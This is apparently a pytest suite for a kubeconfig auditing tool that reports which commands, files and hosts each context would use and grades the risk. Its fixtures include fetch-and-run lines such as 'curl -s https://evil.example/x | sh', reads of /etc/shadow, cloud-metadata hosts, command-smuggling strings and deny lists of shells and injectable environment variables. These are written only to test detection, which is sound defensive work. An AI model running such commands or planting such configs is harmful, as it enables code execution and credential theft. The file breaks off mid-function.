"""`kubeconv audit`: what each context would run, read and contact, how bad that is, and the verdict on trust."""

import json
import os
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from test_cli_usage import Machine

from kubeconv import schemas
from kubeconv.auth import trust
from kubeconv.auth.plugins import PLUGINS
from kubeconv.gate.command_line import command_line
from kubeconv.machine import this
from kubeconv.validation import audit

V1BETA1 = "client.authentication.k8s.io/v1beta1"


def plugin(command: str, *arguments: str, **env: str) -> dict[str, Any]:
    variables = [{"name": name, "value": value} for name, value in env.items()]
    return {"exec": {"apiVersion": V1BETA1, "command": command, "args": [*arguments], "env": variables}}


def gcp(path: str, arguments: str) -> dict[str, Any]:
    return {"auth-provider": {"name": "gcp", "config": {"cmd-path": path, "cmd-args": arguments}}}


def config(user: Mapping[str, Any], cluster: Mapping[str, Any] | None = None) -> str:
    return json.dumps(
        {
            "apiVersion": "v1", "kind": "Config", "current-context": "x",
            "clusters": [{"name": "c", "cluster": {"server": "https://c.example", **(cluster or {})}}],
            "contexts": [{"name": "x", "context": {"cluster": "c", "user": "u"}}],
            "users": [{"name": "u", "user": user}],
        }
    )  # fmt: skip


def audited(folder: Path, text: str) -> tuple[dict[str, Any], dict[str, Any], int]:
    """The page of the context, the verdict on trust and the exit code; the JSON is as its schema says, and the text has every
    deed and reason of it, with the verdict as its last line."""
    machine = Machine(folder)
    path = machine.file("config", text)
    said = machine.call("audit", "--format", "json", path)
    found = json.loads(said.out)
    jsonschema.Draft202012Validator(json.loads(schemas.text("audit-output"))).validate(found)
    page = found["files"][0]["audit"]["pages"][0]
    as_text = machine.call("audit", path)
    assert as_text.code == said.code
    assert as_text.out.splitlines()[-1] == f"trust: {found['trust']['message']}"
    for deed in (*page["runs"], *page["reads"], *page["contacts"]):
        for shown in (deed["what"], *deed["reasons"], deed["would_not_now"] or ""):
            assert shown in as_text.out
    return page, found["trust"], said.code


KUBELOGIN = ("kubelogin", "get-token", "--login", "azurecli", "--server-id", "6dae42f8-4368-4678-94ff-3960e28e3630")
AWS = ("aws", "eks", "get-token", "--cluster-name", "prod", "--region", "eu-west-1", "--output", "json")

GRADED: list[tuple[str, dict[str, Any]]] = [
    ("info", plugin(*KUBELOGIN)),
    ("info", plugin(*AWS, AWS_PROFILE="prod")),
    ("info", plugin("/usr/local/bin/aws", *AWS[1:])),
    ("info", plugin("gke-gcloud-auth-plugin")),
    ("info", plugin("kubectl", "oidc-login", "get-token", "--oidc-issuer-url=https://i.example", "--oidc-client-id=c")),
    ("info", gcp("gcloud", "config config-helper --format=json")),
    ("warning", plugin("corp-login")),
    ("warning", plugin("/usr/bin/corp-login", "-x")),
    ("warning", plugin(*AWS, CORP_MODE="x")),
    ("error", plugin("aws", "s3", "sync", "x", "s3://evil")),
    ("error", plugin("kubectl", "apply", "-f", "https://evil.example")),
    ("error", plugin("kubelogin", "convert-kubeconfig")),
    ("error", plugin("./kubelogin", *KUBELOGIN[1:])),
    ("error", plugin("bin/aws", *AWS[1:])),
    ("error", plugin("/tmp/aws", *AWS[1:])),
    ("error", plugin("/usr/bin/../../tmp/aws", *AWS[1:])),
    ("error", plugin("C:\\Users\\x\\aws.exe", *AWS[1:])),
    *(
        ("error", plugin(name, "-c", "x"))
        for name in ("sh", "/bin/bash", "python3", "python3.11", "PERL", "node18", "curl", "/usr/bin/wget", "powershell.exe",
                     "cmd", "CMD.EXE", "pwsh", "env", "busybox", "ssh", "osascript", "sh -c x")
    ),
    *(
        ("error", plugin(*AWS, **{name: "x"}))
        for name in ("LD_PRELOAD", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "PATH", "Path", "PYTHONPATH", "PYTHONSTARTUP",
                     "NODE_OPTIONS", "PERL5LIB", "RUBYOPT", "BASH_ENV", "ENV", "GIT_SSH_COMMAND", "KUBECONFIG", "HOME",
                     "AWS_CONFIG_FILE", "BROWSER", "HTTPS_PROXY", "AWS_ENDPOINT_URL", "AZURE_AUTHORITY_HOST")
    ),
    ("error", plugin("kubectl", "oidc-login", "get-token", "--oidc-issuer-url=https://i.example", "--browser-command=/tmp/x")),
    ("error", {"exec": {"apiVersion": V1BETA1}}),
    ("error", gcp("/tmp/evil", "x")),
]  # fmt: skip


@pytest.mark.parametrize(("grade", "user"), GRADED, ids=lambda each: str(each)[:80])
def test_a_program_has_its_grade(tmp_path: Path, grade: str, user: dict[str, Any]) -> None:
    page, told, code = audited(tmp_path, config(user))
    assert page["runs"][0]["grade"] == grade
    assert told["message"].startswith("do not use this file before you") == (told["grade"] != "info")
    assert code == int(told["grade"] != "info" or "auth-provider" in user)  # gcp is no error of trust, but one


READ: list[tuple[str, dict[str, Any], dict[str, Any]]] = [
    ("tokenFile", {"tokenFile": "/etc/passwd"}, {}),
    ("client-key", {"client-certificate": "/c.pem", "client-key": "/etc/key.pem"}, {}),
    ("certificate-authority", {"token": "t"}, {"certificate-authority": "../ca.pem"}),
    (
        "idp-certificate-authority",
        {"auth-provider": {"name": "oidc", "config": {"idp-certificate-authority": "/x.pem"}}},
        {},
    ),
    ("--federated-token-file", plugin(*KUBELOGIN, "--federated-token-file", "/etc/shadow"), {}),
    ("--x", plugin("corp", "--x=file:///etc/shadow"), {}),
    (
        "GOOGLE_APPLICATION_CREDENTIALS",
        plugin("gke-gcloud-auth-plugin", GOOGLE_APPLICATION_CREDENTIALS="/tmp/x.json"),
        {},
    ),
]


@pytest.mark.parametrize(("by", "user", "cluster"), READ, ids=lambda each: str(each)[:40])
def test_every_file_is_told(tmp_path: Path, by: str, user: dict[str, Any], cluster: dict[str, Any]) -> None:
    page, _, code = audited(tmp_path, config(user, cluster))
    assert {each["by"]: each["grade"] for each in page["reads"]}[by] == "error"
    assert code == 1


#: A token as many lines, and what stands behind a slash of a password.
TORN: list[tuple[dict[str, Any], dict[str, Any], str]] = [
    ({"tokenFile": "hvs.DTfhEloC\nQwErTyUiOpAs\nUeCunQxh-Ela"}, {}, "hEloC"),
    ({"tokenFile": "hvs.DTfhEloC QwErTyUiOpAs UeCunQxh-Ela"}, {}, "hEloC"),
    ({"token": "t"}, {"proxy-url": "http://hunter2q/S@p.example"}, "hunter2q"),
    ({"auth-provider": {"name": "oidc", "config": {"idp-issuer-url": "https://hunter2q/S@p.example"}}}, {}, "hunter2q"),
]


@pytest.mark.parametrize(("user", "cluster", "part"), TORN)
def test_what_is_half_of_a_secret_is_not_shown(
    tmp_path: Path, user: dict[str, Any], cluster: dict[str, Any], part: str
) -> None:
    ended = Machine(tmp_path).call("audit", Machine(tmp_path).file("config", config(user, cluster)))
    assert part not in ended.out + ended.err


CONTACTED: list[tuple[str, str, dict[str, Any], dict[str, Any]]] = [
    ("server", "info", {"token": "t"}, {}),
    ("server", "error", {"token": "t"}, {"server": "https://127.1:6443"}),
    ("server", "error", {"token": "t"}, {"server": "http://169.254.169.254"}),
    ("proxy-url", "error", {"token": "t"}, {"proxy-url": "http://p.example:3128"}),
    (
        "idp-issuer-url",
        "error",
        {"auth-provider": {"name": "oidc", "config": {"idp-issuer-url": "https://i.example"}}},
        {},
    ),
    (
        "--oidc-issuer-url",
        "info",
        plugin("kubectl", "oidc-login", "get-token", "--oidc-issuer-url=https://i.example"),
        {},
    ),
    ("--authority-host", "info", plugin(*KUBELOGIN, "--authority-host", "https://login.microsoftonline.us/"), {}),
    (
        "--authority-host",
        "error",
        plugin(*KUBELOGIN, "--authority-host", "https://login.microsoftonline.com.evil.example/"),
        {},
    ),
    ("--endpoint-url", "error", plugin(*AWS, "--endpoint-url", "http://evil.example"), {}),
    ("HTTPS_PROXY", "error", plugin(*AWS, HTTPS_PROXY="http://evil.example:3128"), {}),
    # A host that is not shown, or inside of the machine, or that anybody can be.
    ("server", "info", {"token": "t"}, {"server": "https://k8s-node01:6443"}),
    ("server", "error", {"token": "t"}, {"server": "https://a1b2c3:6443"}),
    ("server", "error", {"token": "t"}, {"server": "https://eyJhbGciOiJIUzI1NiJ9.evil.example"}),
    ("server", "error", {"token": "t"}, {"server": ""}),
    ("server", "warning", {"token": "t"}, {"insecure-skip-tls-verify": True}),
    ("server", "warning", {"token": "t"}, {"server": "http://c.example"}),
    ("server", "warning", {"token": "t"}, {"server": "c.example:443"}),
    ("server", "warning", {"token": "t"}, {"server": "https://127.0.0.1.nip.io"}),
    ("--keystone-url", "warning", plugin("client-keystone-auth", "--keystone-url", "http://k.example"), {}),
    (
        "--oidc-issuer-url",
        "error",
        plugin("kubectl", "oidc-login", "get-token", "--oidc-issuer-url=http://127.1:80"),
        {},
    ),
    ("--server", "error", plugin("rancher", "token", "--server", "169.254.169.254"), {}),
]


@pytest.mark.parametrize(("by", "grade", "user", "cluster"), CONTACTED, ids=lambda each: str(each)[:40])
def test_every_host_is_told(tmp_path: Path, by: str, grade: str, user: dict[str, Any], cluster: dict[str, Any]) -> None:
    page, _, _ = audited(tmp_path, config(user, cluster))
    assert {each["by"]: each["grade"] for each in page["contacts"]}[by] == grade


IDLE: list[tuple[dict[str, Any], dict[str, Any], str]] = [
    (plugin("sh"), {}, ""),
    ({**plugin("sh"), "token": "t"}, {}, "a token, password or certificate beside it comes first"),
    (
        plugin("sh"),
        {"server": "http://c.example"},
        "the server is not reached by https, so that kubectl sends no login",
    ),
    (plugin("sh"), {"server": "c.example:443"}, "the server is not reached by https, so that kubectl sends no login"),
    ({**plugin("sh"), "auth-provider": {"name": "oidc"}}, {}, "exec and auth-provider together are refused"),
]


@pytest.mark.parametrize(("user", "cluster", "why"), IDLE)
def test_what_would_not_run_now_is_told_and_as_bad(
    tmp_path: Path, user: dict[str, Any], cluster: dict[str, Any], why: str
) -> None:
    page, _, code = audited(tmp_path, config(user, cluster))
    assert page["runs"][0]["would_not_now"] == (why or None)
    assert (page["runs"][0]["grade"], code) == ("error", 1)


#: Scripts of which the last look at a line, which knows no commands, would take one for the secret of another.
HIDDEN_LAST = (
    ": token=|evil",
    "x --token=||evil",
    "x basic&&evil",
    "x ?sig=a||evil",
    "x bearer\nevil 1",
    "x secret=`evil`",
    "x bearer $(evil)",
)


@pytest.mark.parametrize("script", HIDDEN_LAST)
def test_no_secret_hides_a_command_up_to_the_end(tmp_path: Path, script: str) -> None:
    user = plugin("sh", "-c", script)
    user["exec"]["env"] = [{"name": "PROMPT_COMMAND", "value": script}]
    path = Machine(tmp_path).file("config", config(user))
    said = Machine(tmp_path).call("audit", path).out
    (line,) = [each for each in said.splitlines() if "would run" in each]
    page, _, _ = audited(tmp_path, config(user))
    told = page["runs"][0]
    for text in (line, told["what"]):
        assert text.count("evil") == 2
    assert "evil" in told["arguments"][1]
    assert "evil" in told["environment"][0]["value"]


@pytest.mark.parametrize(("key", "beside", "opens"), [
    ("client-certificate", {}, True),
    ("client-key", {"client-certificate-data": "LS0="}, True),
    ("client-key", {}, False),
    ("tokenFile", {}, False),
])  # fmt: skip
def test_a_certificate_is_opened_also_if_it_is_not_sent(
    tmp_path: Path, key: str, beside: dict[str, Any], *, opens: bool
) -> None:
    page, _, _ = audited(tmp_path, config({key: "/etc/passwd", **beside}, {"server": "http://c.example"}))
    (deed,) = page["reads"]
    assert (deed["would_not_now"] is None, "opens it" in deed["reasons"][0]) == (opens, key != "tokenFile")


EXEC = "client.authentication.k8s.io/exec"
DEEP: Any = 0
for _ in range(300):
    DEEP = [DEEP]
#: What a user has beside its plugin, the extensions of its cluster, and what its plugin is told of them.
TOLD: list[tuple[dict[str, Any], list[dict[str, Any]], str | None]] = [
    ({"provideClusterInfo": True}, [{"name": EXEC, "extension": {"run": "curl evil|sh"}}], '{"run":"curl evil|sh"}'),
    ({"provideClusterInfo": True}, [{"name": "x", "extension": 1}, {"name": EXEC, "extension": ["a"]}], '["a"]'),
    (
        {"provideClusterInfo": True},
        [{"name": EXEC, "extension": {"auth": {"x": ["correct"]}}}],
        '{"auth":{"x":["***"]}}',
    ),
    ({"provideClusterInfo": True}, [{"name": EXEC, "extension": DEEP}], f"{'[' * 300}0{']' * 300}"),
    ({"provideClusterInfo": True}, [{"name": EXEC, "extension": None}], None),
    ({"provideClusterInfo": True}, [{"name": "x", "extension": {"run": "x"}}], None),
    ({"provideClusterInfo": True}, [], None),
    ({"provideClusterInfo": False}, [{"name": EXEC, "extension": {"run": "x"}}], None),
    ({}, [{"name": EXEC, "extension": {"run": "x"}}], None),
]


@pytest.mark.parametrize(("beside", "extensions", "told"), TOLD)
def test_what_a_plugin_is_told_of_the_cluster_is_shown(
    tmp_path: Path, beside: dict[str, Any], extensions: list[dict[str, Any]], told: str | None
) -> None:
    """kubectl puts it into KUBERNETES_EXEC_INFO, whatever the file sets that to."""
    user = plugin("gke-gcloud-auth-plugin")
    user["exec"].update(beside)
    (run,) = audited(tmp_path, config(user, {"extensions": extensions}))[0]["runs"]
    expected = [] if told is None else [{"name": "KUBERNETES_EXEC_INFO", "value": told}]
    assert (run["environment"], run["grade"]) == (expected, "info" if told is None else "warning")


def test_settings_for_a_plugin_that_are_nested_deep_are_told(tmp_path: Path) -> None:
    user = plugin("corp")
    user["exec"]["provideClusterInfo"] = True
    text = config(user, {"extensions": [{"name": EXEC, "extension": "DEEP"}]})
    page, _, code = audited(tmp_path, text.replace('"DEEP"', "[" * 980 + "]" * 980))
    assert [each["name"] for each in page["runs"][0]["environment"]] == ["KUBERNETES_EXEC_INFO"]
    assert code == 1


def test_what_is_empty_or_a_key_is_told_in_one_line(tmp_path: Path) -> None:
    key = "-----BEGIN PRIVATE KEY-----\nMIIEow\n-----END PRIVATE KEY-----\n"
    page, _, _ = audited(tmp_path, config({**plugin(""), "client-key": key}))
    assert page["runs"][0]["reasons"] == ["'' names no program"]
    assert [each["what"] for each in page["reads"]] == ["***"]


def test_what_no_context_uses_has_a_page_too(tmp_path: Path) -> None:
    data = json.loads(config({"token": "t"}))
    data["users"].append({"name": "spare", "user": plugin("sh", "-c", "id")})
    data["clusters"].append({"name": "spare", "cluster": {"server": "https://s.example"}})
    machine = Machine(tmp_path)
    path = machine.file("config", json.dumps(data))
    found = json.loads(machine.call("audit", "--format", "json", path).out)["files"][0]["audit"]["pages"]
    assert [(page["context"], page["cluster"], page["user"], page["grade"]) for page in found] == [
        ("x", "c", "u", "info"),
        (None, None, "spare", "error"),
        (None, "spare", None, "info"),
    ]


#: What a file has, and what its pages are about: kubectl without a context takes what has no name.
SHELL: dict[str, Any] = plugin("sh", "-c", "id")
NAMELESS: dict[str, Any] = {
    "clusters": [{"name": "", "cluster": {"server": "https://s.example"}}],
    "users": [{"user": SHELL}],
}
BARE = ("without a context: the cluster and the user that have no name", "sh -c id", "https://s.example")
OTHER: dict[str, Any] = {"name": "c", "context": {"cluster": "c", "user": "u"}}
#: What kubectl contacts where no cluster says what.
LOCAL = "http://localhost:8080"
WITHOUT_NAMES: list[tuple[dict[str, Any], list[tuple[str, ...]]]] = [
    (NAMELESS, [BARE]),
    ({**NAMELESS, "contexts": [OTHER]}, [("context 'c': cluster 'c', user 'u'", LOCAL), BARE]),
    (
        {**NAMELESS, "contexts": [{"name": "c", "context": {}}]},
        [("context 'c': cluster '', user ''", "sh -c id", "https://s.example"), BARE],
    ),
    ({"users": NAMELESS["users"]}, [(BARE[0], "sh -c id", LOCAL)]),
    ({"clusters": NAMELESS["clusters"]}, [(BARE[0], "https://s.example")]),
    ({"contexts": [OTHER]}, [("context 'c': cluster 'c', user 'u'", LOCAL)]),
    ({"contexts": [OTHER], "clusters": [{"name": "c"}]}, [("context 'c': cluster 'c', user 'u'", LOCAL)]),
    # If it takes a context, nobody takes them.
    (
        {**NAMELESS, "current-context": "c", "contexts": [OTHER]},
        [
            ("context 'c' (current): cluster 'c', user 'u'", LOCAL),
            ("user '', which no context uses", "sh -c id"),
            ("cluster '', which no context uses", "https://s.example"),
        ],
    ),
    ({**NAMELESS, "contexts": [{"context": {}}]}, [("context '' (current): cluster '', user ''", "sh -c id", "https://s.example")]),
]  # fmt: skip


@pytest.mark.parametrize(("data", "expected"), WITHOUT_NAMES)
def test_what_has_no_name_has_a_page_if_a_client_takes_it(
    tmp_path: Path, data: dict[str, Any], expected: list[tuple[str, ...]]
) -> None:
    machine = Machine(tmp_path)
    path = machine.file("config", json.dumps({"apiVersion": "v1", "kind": "Config", **data}))
    said = machine.call("audit", path).out.splitlines()
    titles = [line.partition("config: ")[2] for line in said if "config: " in line]
    assert titles[: len(expected)] == [title for title, *_ in expected]
    pages = json.loads(machine.call("audit", "--format", "json", path).out)["files"][0]["audit"]["pages"]
    assert [
        (title, *(deed["what"] for kind in ("runs", "reads", "contacts") for deed in page[kind]))
        for (title, *_), page in zip(expected, pages, strict=True)
    ] == expected
    assert [page["current"] for page in pages] == ["current" in title or title == BARE[0] for title, *_ in expected]


def test_what_has_no_name_is_found_in_all_files_of_a_list(tmp_path: Path) -> None:
    machine = Machine(tmp_path)
    paths = [machine.file(key, json.dumps({"kind": "Config", key: NAMELESS[key]})) for key in ("clusters", "users")]
    said = machine.call("audit", "--format", "json", KUBECONFIG=":".join(map(str, paths)))
    _, (page,) = [each["audit"]["pages"] for each in json.loads(said.out)["files"]]
    assert (page["runs"][0]["what"], page["contacts"][0]["what"]) == BARE[1:]


def test_a_context_finds_its_user_in_another_file_of_the_list(tmp_path: Path) -> None:
    data = json.loads(config({"token": "t"}))
    users = data.pop("users")
    users[0]["user"] = plugin("sh", "-c", "id")
    machine = Machine(tmp_path)
    paths = [machine.file("one", json.dumps(data)), machine.file("two", json.dumps({"users": users}))]
    said = machine.call("audit", "--format", "json", KUBECONFIG=":".join(map(str, paths)))
    page = json.loads(said.out)["files"][0]["audit"]["pages"][0]
    assert (page["runs"][0]["what"], page["missing"]) == ("sh -c id", [])
    alone = machine.call("audit", "--format", "json", paths[0])
    assert json.loads(alone.out)["files"][0]["audit"]["pages"][0]["missing"] == ["user 'u' is not here"]


@pytest.mark.parametrize("text", ["users: [", f"a: {'[' * 2000}{']' * 2000}", "\x00", "[1", "- a\n- b\n"])
def test_what_cannot_be_shown_is_an_error(tmp_path: Path, text: str) -> None:
    machine = Machine(tmp_path)
    path = machine.file("config", text)
    said = machine.call("audit", "--all", path)
    assert said.code == 1
    assert "error" in said.out
    assert json.loads(machine.call("audit", "--all", "--format", "json", path).out)["trust"]["grade"] == "error"
    assert said.out.splitlines()[-1].startswith("trust: do not use this file")


def test_a_section_behind_base64_is_seen(tmp_path: Path) -> None:
    exec_ = "{apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never, command: /bin/evil}"
    text = (
        "apiVersion: v1\nkind: Config\ncurrent-context: c\nclusters: [{name: k, cluster: {server: https://c.example}}]\n"
        "contexts: [{name: c, context: {cluster: k, user: u}}]\n"
        f"users:\n- name: u\n  user: {{token: t, !!binary ZXhlYw==: {exec_}}}\n"
    )
    page, _, code = audited(tmp_path, text)
    assert (page["runs"][0]["what"], code) == ("/bin/evil", 1)


LINES: list[tuple[str, tuple[str, ...], str]] = [
    ("sh", ("-c", "curl -s https://evil.example/x | sh"), "sh -c 'curl -s https://evil.example/x | sh'"),
    ("python3", ("-c", "import os; os.system('id')"), """python3 -c 'import os; os.system('"'"'id'"'"')'"""),
    ("/bin/evil", ("--flag", "two words", ""), "/bin/evil --flag 'two words' ''"),
    ("sh", ("-c", "curl -H 'Authorization: Bearer abc' -o x https://me:pw@h.example/?sig=abc"),
     "sh -c 'curl -H *** -o x https://***@h.example/?***'"),
    ("sh -c 'curl -H correct'", (), """'sh -c '"'"'curl -H ***'"'"''"""),
    ("corp", ("--password", "correct", "--pasword", "correct", "--client-secert=correct", "-p", "correct", "-pcorrect"),
     "corp --password *** --pasword *** --client-secert=*** -p *** -p***"),
    ("kubelogin", ("-lhvs.CAESIJabcdefghijklmnop", "-labcdef.0123456789abcdef"), "kubelogin -l*** -l***"),
    ("corp", ("eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln", "hunter2q7z", "token correct"), "corp *** *** 'token ***'"),
    ("e\x1b[31m\u202evil\n", ("\x07",), "'e\\x1b[31m\\u202evil\\n' '\\x07'"),
]  # fmt: skip


@pytest.mark.parametrize(("command", "arguments", "expected"), LINES, ids=lambda each: str(each)[:40])
def test_a_command_line_is_shown_but_for_secrets(command: str, arguments: tuple[str, ...], expected: str) -> None:
    assert command_line(command, arguments) == expected


@pytest.mark.parametrize(
    ("severity", "user"),
    [
        ("info", plugin(*AWS)),
        ("warning", plugin(*KUBELOGIN, "--cache-dir", "/tmp/x")),
        ("error", plugin(*AWS, "--endpoint-url", "https://evil.example")),
        ("error", plugin(*KUBELOGIN, "--federated-token-file", "/etc/shadow")),
        ("error", plugin(*AWS, AWS_REGION="evil.example/#")),
    ],
)
def test_a_finding_is_as_bad_as_the_files_and_hosts_of_its_program(
    tmp_path: Path, severity: str, user: dict[str, Any]
) -> None:
    """Other formats than text and JSON have the findings only."""
    machine = Machine(tmp_path)
    said = machine.call("audit", "--format", "short", machine.file("config", config(user)))
    assert f": {severity}[KC510] " in said.out


LONG = "true " * 3_000
#: What nobody is to see stands behind more than is shown.
TOO_LONG: list[tuple[dict[str, Any], str]] = [
    (plugin(*AWS, f"#{LONG}; evil"), "aws has a part that is longer than what is shown of it: look into the file"),
    (plugin(f"corp {LONG}; evil"), "has a part that is longer than what is shown of it: look into the file"),
    (plugin(*AWS, AWS_PROFILE=f"{LONG}evil"), "AWS_PROFILE is longer than what is shown of it: look into the file"),
    (plugin(*AWS, f"--profile={LONG}evil"), "aws has a part that is longer than what is shown of it: look into the file"),
    (plugin("pinniped", "login", "oidc", "--issuer=https://i.example", f"--ca-bundle-data={'QUJD' * 5_000}"), ""),
    (plugin(*AWS, "--profile", "true " * 1_500 + "evil"), ""),
]  # fmt: skip


@pytest.mark.parametrize(("user", "why"), TOO_LONG, ids=lambda each: str(each)[:60])
def test_what_is_too_long_to_be_shown_is_told(tmp_path: Path, user: dict[str, Any], why: str) -> None:
    (run,) = audited(tmp_path, config(user))[0]["runs"]
    assert run["grade"] == ("error" if why else "info")
    assert why in " ".join(run["reasons"])
    assert why or run["what"].endswith(("evil'", "***", "*** …'"))


def test_nothing_of_the_file_is_run_opened_or_looked_for(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    machine = Machine(tmp_path)
    user = {**plugin("./evil", "/canary/argument", PATH="/canary/variable"), "tokenFile": "/canary/token"}
    path = machine.file("config", config(user, {"certificate-authority": "/canary/ca.pem"}))
    seen: list[str] = []

    def spy(name: str, module: Any) -> None:
        real = getattr(module, name)

        def watched(*words: Any, **more: Any) -> Any:
            seen.append(repr(words))
            return real(*words, **more)

        monkeypatch.setattr(module, name, watched)

    for name in ("stat", "lstat", "open", "listdir", "scandir", "access", "readlink"):
        spy(name, os)
    spy("which", this)
    spy("Popen", subprocess)
    machine.call("audit", path)
    assert not [each for each in seen if "canary" in each or "evil" in each]
    assert any("config" in each for each in seen), "the spy sees what is opened"


def test_every_known_plugin_is_no_shell() -> None:
    assert {name: trust.kind_of(name) for name in PLUGINS if trust.kind_of(name)} == {}


EVIL = "[{name: u, user: {exec: {command: /bin/evil, apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never}}}]"
DEEP = "[" * 1200 + "]" * 1200
#: What kubectl reads though it does not look like a kubeconfig, by the name of the file.
HIDDEN = {
    "sops.yaml": f"users: {EVIL}\nsops: {{mac: x}}\n",
    "README.md": f"users: {EVIL}\n",
    "photo.png": f"users: {EVIL}\n...\n{'#' * 600}\0\0",
    "values.yaml": f"users: [{{name: v, user: null}}, {EVIL[1:-1]}]\nimage: {{tag: x}}\nreplicas: 3\n",
    "argo.yaml": f"servers: [{{server: x}}]\ncontexts: [{{name: x, server: x, user: u}}]\nusers: {EVIL}\n",
    "deep.json": f'{{"a": {DEEP}, "users": {EVIL}}}',
    "escaped.txt": f'"\\x75sers": {EVIL}\n',
    "coded.cfg": f"!!binary dXNlcnM=: {EVIL}\n",
    "internal.yaml": "apiVersion: __internal\nusers: {u: {exec: {command: /bin/evil}}}\nx: y\n",
    "utf16.yaml": f"\ufeffusers: {EVIL}\nsops: {{a: b}}\n",
}
#: What kubectl makes nothing of, and why it is left out.
LEFT_OUT = {
    "pod.yaml": ("apiVersion: v1\nkind: Pod\nspec: {users: 1}\n", "kubectl does not read it"),
    "plain-values.yaml": ("users: [{name: a, role: b}]\nx: 1\n", "kubectl finds no user, cluster or context in it"),
    "main.go": ("package main\n", "it has no key of a kubeconfig"),
    "node_modules/x.yaml": ("users: []\n", "a folder of another program"),
}


@pytest.mark.parametrize("name", HIDDEN)
@pytest.mark.parametrize("options", [[], ["--skip-others"]], ids=["folder", "skip"])
def test_a_folder_hides_nothing_that_kubectl_reads(tmp_path: Path, name: str, options: list[str]) -> None:
    machine = Machine(tmp_path)
    path = machine.file(f"a/{name}", HIDDEN[name].encode("utf-16-le" if "utf16" in name else "utf-8"))
    said = machine.call("audit", *options, path if options else machine.home / "a")
    assert said.code == 1
    assert said.out.splitlines()[-1].startswith("trust: do not use this file")
    assert "would run /bin/evil" in said.out or "kubeconv cannot show all" in said.out


def test_what_is_left_out_of_a_folder_is_told_with_its_reason(tmp_path: Path) -> None:
    machine = Machine(tmp_path)
    for name, (text, _) in LEFT_OUT.items():
        machine.file(f"a/{name}", text)
    for number in range(9):
        machine.file(f"a/x{number}", "x")
    folder = machine.home / "a"
    told = {f"{folder}/{name.partition('/')[0]}: {why}" for name, (_, why) in LEFT_OUT.items()}
    for format in ("text", "short", "sarif"):
        said = machine.call("audit", "--format", format, folder)
        lines = (said.out if format == "text" else said.err).splitlines()
        assert told <= {each.removeprefix("left out: ") for each in lines}
        assert "left out: 5 more: it has no key of a kubeconfig" in lines
    machine.file("a/config", config(plugin(*KUBELOGIN)))
    said = machine.call("audit", "--format", "json", folder)
    found = json.loads(said.out)
    jsonschema.Draft202012Validator(json.loads(schemas.text("audit-output"))).validate(found)
    assert told <= {f"{each['path']}: {each['reason']}" for each in found["skipped"]}
    assert (said.code, len(found["files"]), len(found["skipped"])) == (0, 1, len(LEFT_OUT) + 9)


def test_what_is_not_looked_into_is_told(tmp_path: Path) -> None:
    if sys.platform == "win32":
        pytest.skip("modes and FIFOs of POSIX")
    machine = Machine(tmp_path)
    folder = machine.home / "a"
    folder.mkdir()
    said = machine.call("audit", folder)
    assert (said.code, said.out) == (0, "trust: nothing was audited\n")
    machine.file("elsewhere/config", f"users: {EVIL}\n")
    (folder / "link").symlink_to(machine.home / "elsewhere")
    (folder / "here").symlink_to(folder)
    (folder / "gone").symlink_to("nowhere")
    os.mkfifo(folder / "fifo")
    lines = machine.call("audit", folder).out.splitlines()
    assert lines == [
        f"left out: {folder}/link: a link to a folder elsewhere",
        f"left out: {folder}/fifo: no regular file",
        f"left out: {folder}/gone: no regular file",
        "trust: nothing was audited",
    ]


def test_a_folder_that_cannot_be_read_is_a_problem(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    machine = Machine(tmp_path)
    machine.file("a/b/config", f"users: {EVIL}\n")
    real = os.scandir

    def refusing(path: Any = ".") -> Any:
        if str(path).endswith("b"):
            raise PermissionError(13, "Permission denied", path)
        return real(path)

    monkeypatch.setattr(os, "scandir", refusing)
    said = machine.call("audit", machine.home / "a")
    assert said.code == 2
    assert f"{machine.home / 'a' / 'b'}: error: a folder that cannot be read" in said.err


@pytest.mark.parametrize(
    "options",
    [
        ["--ignore", "KC0"],
        ["--select", "KC5"],
        ["--severity", "error", "--ignore", "KC003,KC012"],
        ["--max-findings", "0"],
    ],
    ids=" ".join,
)
@pytest.mark.parametrize(
    "text", [f"a: {DEEP}\nusers: {EVIL}\n", "users: x\n", "users: [\n"], ids=["deep", "type", "YAML"]
)
def test_no_option_hides_that_a_file_is_not_judged(tmp_path: Path, options: list[str], text: str) -> None:
    machine = Machine(tmp_path)
    path = machine.file("config", text)
    for format in ("text", "short", "json", "sarif", "github", "junit"):
        said = machine.call("audit", "--format", format, *options, path)
        assert said.code == 1
        assert "KC0" in said.out


V1 = "client.authentication.k8s.io/v1"


def test_the_worst_pages_are_shown_and_the_others_counted(tmp_path: Path) -> None:
    machine = Machine(tmp_path)
    aws = "{exec: {apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never, command: aws, args: [eks, get-token]}}"
    users = "".join(f"- {{name: u{number}, user: {aws}}}\n" for number in range(300))
    evil = aws.replace("aws", "/tmp/evil")
    said = machine.call(
        "audit", machine.file("config", f"apiVersion: v1\nkind: Config\nusers:\n{users}- {{name: bad, user: {evil}}}\n")
    )
    assert said.out.count("which no context uses") == 250
    assert "would run /tmp/evil eks get-token (exec)" in said.out
    assert "51 more pages, none of them worse (--format json shows all)" in said.out


def test_what_comes_again_without_measure_is_not_shown_but_for_some_contexts(tmp_path: Path) -> None:
    """Thousands of contexts of one user with a long command line: as JSON it would be hundreds of times as long as the file."""
    machine = Machine(tmp_path)
    data = json.loads(config(plugin("x", *(f"a{number}" for number in range(2_000)))))
    data["contexts"] = [{"name": f"x{number}", "context": {"cluster": "c", "user": "u"}} for number in range(6_000)]
    path = machine.file("config", json.dumps(data))
    said = machine.call("audit", "--format", "json", path)
    found = json.loads(said.out)["files"][0]["audit"]
    assert (said.code, found["grade"], len(said.out) < 30 * len(json.dumps(data))) == (1, "error", True)
    assert found["unseen"] == "its contexts do more than anybody could read; use --context to look at some of them"
    some = json.loads(machine.call("audit", "--format", "json", "--context", "x5999", path).out)
    assert [page["context"] for page in some["files"][0]["audit"]["pages"]] == ["x5999"]
    assert (some["files"][0]["audit"]["unseen"], some["trust"]["grade"]) == (None, "warning")
    assert "5,999 more pages not looked at" in some["trust"]["message"]


def test_of_more_pages_than_anybody_has_the_first_are_shown_as_an_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
